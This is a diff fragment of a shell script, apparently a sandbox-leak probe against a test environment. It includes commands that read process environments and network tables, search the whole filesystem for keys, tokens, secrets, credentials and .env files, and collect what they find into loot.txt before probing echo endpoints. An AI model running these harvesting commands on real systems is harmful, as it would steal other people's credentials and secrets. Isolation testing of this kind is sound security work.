@@ -37,9 +37,9 @@ say "now it turns hostile: whatever it can find goes to loot.txt"
   cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline /proc/[0-9]*/maps /proc/net/tcp /proc/net/unix
   ls -laR /run /tmp /home /root /etc/leasehold /var "$HOME"
   find / -xdev \( -path /usr -o -path /proc \) -prune -o -type f \( -name '*.pem' -o -name '*.key' -o -name '.netrc' \
-    -o -name '*token*' -o -name '*secret*' -o -name '*credential*' -o -name '.env*' -o -name 'id_*' \) -size -64k \
+    -o -name '*token*' -o -name '*secret*' -o -name '*credential*' -o -name '.env*' -o -name 'id_*' \) ! -name loot.txt -size -64k \
     -exec tail -n +1 {} +
-  find "$HOME" /run /tmp /etc -type f -size -1024k -exec tail -n +1 {} +
+  find "$HOME" /run /tmp /etc -type f ! -name loot.txt -size -1024k -exec tail -n +1 {} +
   for way in echo reflect reflect-headers gzip; do
     curl -sS -i --compressed "https://api.forge.test/$way"; curl -sS -i "https://api.forge.test/$way"
   done
